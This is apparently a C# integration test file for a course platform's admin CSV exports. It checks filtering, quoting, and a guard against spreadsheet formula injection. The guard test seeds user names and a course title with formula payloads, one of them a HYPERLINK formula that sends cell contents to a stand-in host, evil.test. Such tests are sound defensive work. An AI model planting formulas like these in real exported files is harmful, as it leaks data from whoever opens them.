using System.Net;
using System.Text;
using CourseHub.Api.Infrastructure;
using CourseHub.Domain.Community;
using CourseHub.Domain.Identity;
using CourseHub.Tests.Infrastructure;
using CourseHub.Tests.Teaching;

namespace CourseHub.Tests.Analytics;

/// <summary>The admin tables' CSV exports: the current filters, every match (not a page), and fields that survive quoting.</summary>
[Collection(SystemCollection.Name)]
public sealed class CsvExportTests(SystemFixture system)
{
    [Fact]
    public async Task Exports_round_trip_commas_quotes_and_line_breaks_and_keep_the_filters()
    {
        var history = await AnalyticsHistory.EnsureAsync(system);
        var tricky = $"Worth it, \"really\"\nsecond line {history.Marker}";
        await using (var db = system.CreateDbContext())
        {
            db.Reviews.Add(new Review { Id = Guid.CreateVersion7(), CourseId = history.CourseA.Id, AuthorId = history.Buyers[0], Rating = 4, Text = tricky,
                CreatedAt = AnalyticsHistory.At(AnalyticsHistory.D3, 12) });
            await db.SaveChangesAsync();
        }
        using var admin = await system.AdminAsync();

        var users = await CsvAsync(admin, $"/api/admin/users?search={history.Marker}&pageSize=1&format=csv");
        Assert.Equal(["id", "email", "displayName", "roles", "emailConfirmed", "banned", "twoFactorEnabled", "createdAt"], users[0]);
        Assert.Equal(4, users.Count - 1); // every match, though a page would hold one
        Assert.Equal(Enumerable.Range(0, 4).Select(i => $"{AnalyticsHistory.TrickyName} {i}"), users.Skip(1).Select(row => row[2]));
        Assert.Equal("2019-03-04T23:59:59.9990000Z", users[2][7]);

        var reviews = await CsvAsync(admin, $"/api/admin/reviews?courseId={history.CourseA.Id}&format=csv");
        var review = Assert.Single(reviews.Skip(1));
        Assert.Equal(tricky, review[Array.IndexOf(reviews[0], "text")]);
        Assert.Equal(AnalyticsHistory.TrickyName + " 0", review[Array.IndexOf(reviews[0], "authorName")]);

        var orders = await CsvAsync(admin, $"/api/admin/orders?q={Uri.EscapeDataString(history.Marker)}&status=paid&from=2019-03-01&to=2019-03-31&format=csv");
        var paid = orders.Skip(1).ToList();
        Assert.Equal(2, paid.Count); // the USD and the partly refunded EUR order; the refunded and the pending one are filtered out
        var amount = Array.IndexOf(orders[0], "amountMinor");
        Assert.Equal([3333L, 10000L], paid.Select(row => long.Parse(row[amount])).Order());
        var page = await admin.OkJsonAsync(HttpMethod.Get, $"/api/admin/orders?q={Uri.EscapeDataString(history.Marker)}&status=paid&from=2019-03-01&to=2019-03-31");
        Assert.Equal(paid.Count, page.GetProperty("orders").GetProperty("total").GetInt32());

        var courses = await CsvAsync(admin, "/api/admin/courses?status=Published&format=csv");
        Assert.Contains(courses.Skip(1), row => row[0] == history.CourseA.Id.ToString());
        Assert.All(courses.Skip(1), row => Assert.Equal("Published", row[Array.IndexOf(courses[0], "status")]));
        var moderation = await CsvAsync(admin, "/api/admin/moderation?status=open&format=csv");
        Assert.Equal("id", moderation[0][0]);
    }

    [Fact]
    public async Task Fields_a_spreadsheet_would_run_as_formulas_are_written_as_text_and_numbers_stay_numbers()
    {
        var marker = "csvguard-" + Guid.NewGuid().ToString("N")[..8];
        const string Formula = "=HYPERLINK(\"http://evil.test/?leak=\"&A1,\"Open\")";
        string[] names = [Formula, "+1+2", "-3+4", "@SUM(1,2)", "\tTabbed", "\rReturned", "Plain = fine"];
        await using (var db = system.CreateDbContext())
        {
            db.Users.AddRange(names.Select((name, i) =>
            {
                var email = $"{marker}-{i}@example.test";
                return new AppUser
                {
                    Id = Guid.CreateVersion7(), UserName = email, NormalizedUserName = email.ToUpperInvariant(), Email = email,
                    NormalizedEmail = email.ToUpperInvariant(), EmailConfirmed = true, DisplayName = name,
                    // Long before the known history's days and today's, so no other test's counts of new users move.
                    CreatedAt = new DateTimeOffset(2017, 6, 1, 6, 0, 0, TimeSpan.Zero),
                    SecurityStamp = Guid.NewGuid().ToString("N"),
                };
            }));
            await db.SaveChangesAsync();
        }
        using var teacher = await system.SignUpAsync("Teacher", "csvguard");
        var created = await teacher.OkJsonAsync(HttpMethod.Post, "/api/teach/courses", new
        {
            title = Formula, subtitle = "Formula title", description = "A course whose title is a formula.", categorySlug = "programming",
            level = "Beginner", language = "en", priceMinor = 4200, currency = "USD", learningOutcomes = new[] { "Nothing" }, requirements = Array.Empty<string>(),
        }, HttpStatusCode.Created);
        var courseId = created.GetProperty("id").GetGuid();
        using var admin = await system.AdminAsync();

        var users = await CsvAsync(admin, $"/api/admin/users?search={marker}&format=csv");
        var displayName = Array.IndexOf(users[0], "displayName");
        // Ordered by email, so the rows are in the order of the names.
        Assert.Equal(names.Select(name => name == "Plain = fine" ? name : "'" + name), users.Skip(1).Select(row => row[displayName]));
        Assert.All(users.Skip(1), row => Assert.Equal("true", row[Array.IndexOf(users[0], "emailConfirmed")]));

        var courses = await CsvAsync(admin, "/api/admin/courses?status=Draft&format=csv");
        var course = Assert.Single(courses.Skip(1), row => row[0] == courseId.ToString());
        Assert.Equal("'" + Formula, course[Array.IndexOf(courses[0], "title")]);
        Assert.Equal("4200", course[Array.IndexOf(courses[0], "priceMinor")]);
        Assert.Equal("0", course[Array.IndexOf(courses[0], "enrollments")]);
        // A negative number is a number, not a formula: only text is guarded.
        Assert.Equal("-5", CsvWriter.Format(-5L));
        Assert.Equal("-1.5", CsvWriter.Format(-1.5m));
        Assert.Equal("'-5", CsvWriter.Format("-5"));
    }

    private static async Task<List<string[]>> CsvAsync(StudioUser admin, string path)
    {
        var response = await admin.SendAsync(HttpMethod.Get, path);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Contains("attachment", response.Content.Headers.ContentDisposition?.ToString() ?? "");
        return Parse(await response.Content.ReadAsStringAsync());
    }

    /// <summary>An RFC 4180 reader of our own, strict about what our writer must produce (CRLF row ends, doubled quotes).</summary>
    private static List<string[]> Parse(string text)
    {
        var rows = new List<string[]>();
        var row = new List<string>();
        var field = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"')
                {
                    field.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    field.Append(c);
                }
            }
            else if (c == '"')
            {
                Assert.Equal(0, field.Length);
                quoted = true;
            }
            else if (c == ',')
            {
                row.Add(field.ToString());
                field.Clear();
            }
            else if (c == '\r')
            {
                Assert.Equal('\n', text[++i]);
                row.Add(field.ToString());
                field.Clear();
                rows.Add([.. row]);
                row.Clear();
            }
            else
            {
                Assert.NotEqual('\n', c);
                field.Append(c);
            }
        }
        Assert.Empty(row);
        Assert.Equal(0, field.Length);
        return rows;
    }
}
